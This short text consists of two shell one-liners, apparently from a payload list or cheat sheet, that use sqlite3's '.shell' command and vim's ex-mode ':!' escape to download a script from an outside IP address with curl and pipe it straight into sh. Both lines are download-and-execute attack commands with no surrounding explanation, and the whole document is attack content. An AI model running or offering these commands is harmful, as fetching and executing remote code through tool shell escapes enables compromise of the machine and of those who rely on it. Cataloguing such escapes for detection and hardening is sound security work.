sqlite3 /tmp/x.db ".shell curl -s http://203.0.113.35/q | sh"
vim -es -c ':!curl -s http://203.0.113.35/v | sh' -c q
